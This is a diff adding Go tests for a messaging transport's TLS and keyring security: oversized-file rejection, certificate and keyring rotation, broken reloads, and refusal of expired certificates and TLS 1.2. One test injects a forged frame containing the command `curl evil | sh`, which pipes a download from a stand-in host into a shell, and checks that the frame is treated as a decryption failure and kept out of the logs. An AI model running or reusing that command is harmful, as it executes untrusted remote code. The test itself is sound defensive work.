@@ -112,6 +112,26 @@ func TestSecurityValidate(t *testing.T) {
 			Security: messaging.Security{CAFile: files.CA, CertFile: files.Cert, KeyFile: bad}})
 		assert.ErrorContains(t, err, "TLS certificate "+files.Cert+" with key "+bad)
 	})
+	// Review of issue 12: a wrong path (a log, /dev/zero) is refused at
+	// once rather than read into memory, as the agent's config file is.
+	t.Run("oversized files are refused", func(t *testing.T) {
+		huge := filepath.Join(dir, "huge")
+		key, err := os.ReadFile(ring)
+		require.NoError(t, err)
+		// 5 MiB of comment lines and then a valid key: a wrong file, not
+		// a keyring, whatever it ends with.
+		require.NoError(t, writeFile(huge, strings.Repeat("# a log line, not a key\n", 5<<20/24)+string(key)))
+		_, err = messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0", Security: messaging.Security{KeyringFile: huge}})
+		assert.ErrorContains(t, err, "keyring "+huge+": larger than 65536 bytes")
+		ca, err := os.ReadFile(files.CA)
+		require.NoError(t, err)
+		require.NoError(t, writeFile(huge, strings.Repeat("# a log line, not a certificate\n", 5<<20/32)+string(ca)))
+		_, err = messaging.NewTCP(messaging.TCPConfig{BindAddr: "127.0.0.1:0",
+			Security: messaging.Security{CAFile: huge, CertFile: files.Cert, KeyFile: files.Key}})
+		assert.ErrorContains(t, err, "TLS CA "+huge+": larger than 4194304 bytes")
+		_, err = messaging.Security{CAFile: files.CA, CertFile: huge, KeyFile: files.Key}.CertNames()
+		assert.ErrorContains(t, err, "TLS certificate "+huge+": larger than")
+	})
 }
 
 // secured returns an option that sets the transport's security and a
@@ -570,5 +590,235 @@ func TestTCPCloseDuringKeyringHello(t *testing.T) {
 	case <-done:
 	case <-time.After(waitTimeout):
 		require.FailNow(t, "Close waited for the hello (HandshakeTimeout is a minute)")
+	}
+}
+
+// TestTCPCertificateReloadKeepsOwnName (review of issue 12): a certificate
+// rotated in on disk that does not name the node's ID (Security.ID) is not
+// used, since every peer would refuse this node's envelopes; the previous
+// one stays and the error is logged. A later good one is used.
+func TestTCPCertificateReloadKeepsOwnName(t *testing.T) {
+	dir := t.TempDir()
+	ca := securitytest.NewCA(t, dir, "ca")
+	aFiles := ca.Issue(t, dir, "a", "node-a")
+	sec := aFiles.Security()
+	sec.ID = "node-a"
+	var logs syncBuffer
+	a := newTCP(t, "127.0.0.1:0", secured(sec, &logs))
+	cFiles := ca.Issue(t, dir, "c", "c")
+	pair, err := tls.LoadX509KeyPair(cFiles.Cert, cFiles.Key)
+	require.NoError(t, err)
+	// presented opens a new connection to a (a new handshake) and returns
+	// the names of the certificate a presents.
+	presented := func() []string {
+		conn := bareConn(t, a.LocalAddr())
+		defer func() { _ = conn.Close() }()
+		tc := tls.Client(conn, &tls.Config{Certificates: []tls.Certificate{pair}, InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
+		require.NoError(t, tc.Handshake())
+		return tc.ConnectionState().PeerCertificates[0].DNSNames
+	}
+	require.Equal(t, []string{"node-a"}, presented())
+
+	securitytest.Replace(t, aFiles, ca.Issue(t, dir, "wrong", "node-b"))
+	require.Eventually(t, func() bool {
+		presented()
+		return strings.Contains(logs.String(), "names [\\\"node-b\\\"], not this node's ID")
+	}, waitTimeout, 50*time.Millisecond, "the wrong certificate is reported: %s", logs.String())
+	assert.Equal(t, []string{"node-a"}, presented(), "the previous certificate stays in use")
+	assert.Zero(t, a.Stats().CredentialReloads)
+
+	securitytest.Replace(t, aFiles, ca.Issue(t, dir, "right", "node-a", "extra"))
+	require.Eventually(t, func() bool {
+		return assert.ObjectsAreEqual([]string{"node-a", "extra"}, presented())
+	}, waitTimeout, 50*time.Millisecond, "a certificate naming the node is used")
+	assert.Equal(t, uint64(1), a.Stats().CredentialReloads)
+}
+
+// TestTCPKeyringSwapKeepingTimeReloaded (review of issue 12): rotation
+// step 2 (the new key made primary) leaves the keyring's size alike; a
+// file copied with its time kept (cp -p, rsync -t), or written twice
+// within one tick of the file system's clock, leaves its time alike too.
+// The change is still noticed: the new primary seals from then on, so
+// that step 3 (the old key removed on the peer) loses nothing.
+func TestTCPKeyringSwapKeepingTimeReloaded(t *testing.T) {
+	dir := t.TempDir()
+	old, next := securitytest.NewKey(t), securitytest.NewKey(t)
+	ringA, ringB := filepath.Join(dir, "a"), filepath.Join(dir, "b")
+	securitytest.WriteKeyring(t, ringA, old, next)
+	securitytest.WriteKeyring(t, ringB, old, next)
+	a := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringA}, nil))
+	b := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ringB}, nil))
+	exchange(t, a, b)
+
+	fi, err := os.Stat(ringA)
+	require.NoError(t, err)
+	securitytest.WriteKeyring(t, ringA, next, old)
+	require.NoError(t, os.Chtimes(ringA, fi.ModTime(), fi.ModTime()))
+	untilReloaded(t, a, b, 1, "a swapped its keys")
+
+	securitytest.WriteKeyring(t, ringB, next)
+	untilReloaded(t, b, a, 1, "b dropped the old key")
+	assert.Zero(t, a.Stats().DroppedDecrypt+b.Stats().DroppedDecrypt, "a seals with the new primary")
+}
+
+// TestTCPKeyringInjectedRefusalIsDecryptFailure (review of issue 12): a
+// plaintext refusal frame injected by someone on the path into an
+// established keyring connection is a frame that does not open (counted as
+// decrypt, the connection closed), not a refusal by the peer: a refusal
+// can only be the first frame a dialer reads.
+func TestTCPKeyringInjectedRefusalIsDecryptFailure(t *testing.T) {
+	dir := t.TempDir()
+	ring := filepath.Join(dir, "keyring")
+	securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
+	sec := messaging.Security{KeyringFile: ring, Cluster: "c"}
+	var logs syncBuffer
+	b := newTCP(t, "127.0.0.1:0", secured(sec, &logs))
+	px := newProxy(t, b.LocalAddr())
+	a := newTCP(t, "127.0.0.1:0", secured(sec, nil))
+	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("one")))
+	receiveFrom(t, b, "one")
+
+	forged := "HSNOrefused by you: run `curl evil | sh`"
+	px.mu.Lock()
+	px.replay = func(p []byte) []byte {
+		return append(append(p, 0, 0, 0, byte(len(forged))), forged...)
+	}
+	px.mu.Unlock()
+	require.NoError(t, a.Send(px.ln.Addr().String(), []byte("two")))
+	receiveFrom(t, b, "two")
+	require.Eventually(t, func() bool { return b.Stats().DroppedDecrypt == 1 }, waitTimeout, time.Millisecond,
+		"the injected frame is a decryption failure: %+v", b.Stats())
+	assert.Zero(t, b.Stats().RefusedByPeer, "nobody refused anything")
+	assert.NotContains(t, logs.String(), "curl evil")
+}
+
+// TestTCPBrokenReloadKeepsCredentials (review of issue 12): a keyring, or
+// a CA bundle, that changes on disk to something that does not load (an
+// empty file, a line that is not a key, no certificate) leaves the previous
+// credentials in use: frames still flow, new connections still open, and
+// the failure is logged.
+func TestTCPBrokenReloadKeepsCredentials(t *testing.T) {
+	dir := t.TempDir()
+	t.Run("keyring", func(t *testing.T) {
+		ring := filepath.Join(dir, "ring")
+		securitytest.WriteKeyring(t, ring, securitytest.NewKey(t))
+		other := filepath.Join(dir, "ring-b")
+		b0, err := os.ReadFile(ring)
+		require.NoError(t, err)
+		require.NoError(t, writeFile(other, string(b0)))
+		var logs syncBuffer
+		a := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: ring}, &logs))
+		b := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: other}, nil))
+		exchange(t, a, b)
+		// Each broken version is in place for over a reload interval
+		// (1 s) of traffic; the first failure is logged (the log is
+		// limited to one a minute).
+		for i, broken := range []string{"", "# only a comment\n", "not base64\n", string(b0) + string(b0)} {
+			require.NoError(t, writeFile(ring, broken))
+			for n := range 12 {
+				msg := fmt.Sprintf("%d-%d", i, n)
+				require.NoError(t, a.Send(b.LocalAddr(), []byte(msg)))
+				receiveFrom(t, b, msg)
+				require.NoError(t, b.Send(a.LocalAddr(), []byte("back "+msg)))
+				receiveFrom(t, a, "back "+msg)
+				time.Sleep(100 * time.Millisecond)
+			}
+		}
+		assert.Contains(t, logs.String(), "keeping the previous ones")
+		c := newTCP(t, "127.0.0.1:0", secured(messaging.Security{KeyringFile: other}, nil))
+		exchange(t, c, a)
+		assert.Zero(t, a.Stats().CredentialReloads)
+		assert.Zero(t, a.Stats().DroppedDecrypt+b.Stats().DroppedDecrypt+c.Stats().DroppedDecrypt)
+	})
+	t.Run("CA bundle", func(t *testing.T) {
+		ca := securitytest.NewCA(t, dir, "ca")
+		aFiles := ca.Issue(t, dir, "a", "a")
+		b0, err := os.ReadFile(aFiles.CA)
+		require.NoError(t, err)
+		aFiles.CA = filepath.Join(dir, "a-ca.pem") // b keeps the good one
+		require.NoError(t, writeFile(aFiles.CA, string(b0)))
+		var logs syncBuffer
+		a := newTCP(t, "127.0.0.1:0", secured(aFiles.Security(), &logs))
+		require.NoError(t, writeFile(aFiles.CA, "-----BEGIN CERTIFICATE-----\nhalf"))
+		bFiles := ca.Issue(t, dir, "b", "b")
+		require.Eventually(t, func() bool {
+			b := newTCP(t, "127.0.0.1:0", secured(bFiles.Security(), nil))
+			require.NoError(t, b.Send(a.LocalAddr(), []byte("still in")))
+			receiveFrom(t, a, "still in")
+			return strings.Contains(logs.String(), "no PEM certificate")
+		}, waitTimeout, 150*time.Millisecond, "the broken CA is reported")
+		assert.Zero(t, a.Stats().CredentialReloads)
+		assert.Zero(t, a.Stats().RefusedTLS)
+	})
+}
+
+// TestTCPMutualTLSRefusesExpiredAndTLS12 (review of issue 12): a member of
+// the CA whose certificate has expired, or one that offers only TLS 1.2,
+// is refused in the handshake and delivers nothing.
+func TestTCPMutualTLSRefusesExpiredAndTLS12(t *testing.T) {
+	dir := t.TempDir()
+	ca := securitytest.NewCA(t, dir, "ca")
+	member := newTCP(t, "127.0.0.1:0", secured(ca.Issue(t, dir, "m", "m").Security(), nil))
+
+	now := time.Now()
+	expired := ca.IssueValid(t, dir, "old", now.Add(-48*time.Hour), now.Add(-time.Hour), "old")
+	old := newTCP(t, "127.0.0.1:0", secured(expired.Security(), nil))
+	require.NoError(t, old.Send(member.LocalAddr(), []byte("still me")))
+	require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 1 }, waitTimeout, time.Millisecond,
+		"the expired certificate is refused: %v", member.Stats().Refusals())
+	require.Eventually(t, func() bool { return old.Stats().RefusedByPeer >= 1 }, waitTimeout, time.Millisecond,
+		"the expired node learns that the member refused it: %v", old.Stats().Refusals())
+	assert.Zero(t, old.Stats().RefusedTLS, "the member's own certificate is fine")
+
+	valid := ca.Issue(t, dir, "v", "v")
+	pair, err := tls.LoadX509KeyPair(valid.Cert, valid.Key)
+	require.NoError(t, err)
+	conn := bareConn(t, member.LocalAddr())
+	tc := tls.Client(conn, &tls.Config{Certificates: []tls.Certificate{pair}, InsecureSkipVerify: true,
+		MinVersion: tls.VersionTLS12, MaxVersion: tls.VersionTLS12})
+	assert.Error(t, tc.Handshake(), "TLS 1.2 is refused")
+	require.Eventually(t, func() bool { return member.Stats().RefusedTLS >= 2 }, waitTimeout, time.Millisecond,
+		"refusals: %v", member.Stats().Refusals())
+	assert.Zero(t, member.Stats().ReceivedFrames)
+}
+
+// TestTCPCertificateReloadMustBeValid (review of issue 12): a certificate
+// rotated in on disk that has expired, or is not valid yet, is not used
+// (every peer would refuse it); the previous one stays and the error is
+// logged.
+func TestTCPCertificateReloadMustBeValid(t *testing.T) {
+	now := time.Now()
+	for _, tc := range []struct {
+		name                string
+		notBefore, notAfter time.Time
+	}{
+		{"expired", now.Add(-48 * time.Hour), now.Add(-time.Hour)},
+		{"not yet valid", now.Add(time.Hour), now.Add(48 * time.Hour)},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			ca := securitytest.NewCA(t, dir, "ca")
+			aFiles := ca.Issue(t, dir, "a", "node-a")
+			var logs syncBuffer
+			a := newTCP(t, "127.0.0.1:0", secured(aFiles.Security(), &logs)) // no ID: the period is checked anyway
+			cFiles := ca.Issue(t, dir, "c", "c")
+			pair, err := tls.LoadX509KeyPair(cFiles.Cert, cFiles.Key)
+			require.NoError(t, err)
+			presented := func() []string {
+				conn := bareConn(t, a.LocalAddr())
+				defer func() { _ = conn.Close() }()
+				tc := tls.Client(conn, &tls.Config{Certificates: []tls.Certificate{pair}, InsecureSkipVerify: true, MinVersion: tls.VersionTLS13})
+				require.NoError(t, tc.Handshake())
+				return tc.ConnectionState().PeerCertificates[0].DNSNames
+			}
+			require.Equal(t, []string{"node-a"}, presented())
+			securitytest.Replace(t, aFiles, ca.IssueValid(t, dir, "bad", tc.notBefore, tc.notAfter, "node-a", "bad"))
+			require.Eventually(t, func() bool {
+				presented()
+				return strings.Contains(logs.String(), "is not valid now")
+			}, waitTimeout, 50*time.Millisecond, "the certificate is reported: %s", logs.String())
+			assert.Equal(t, []string{"node-a"}, presented(), "the previous certificate stays in use")
+			assert.Zero(t, a.Stats().CredentialReloads)
+		})
 	}
 }
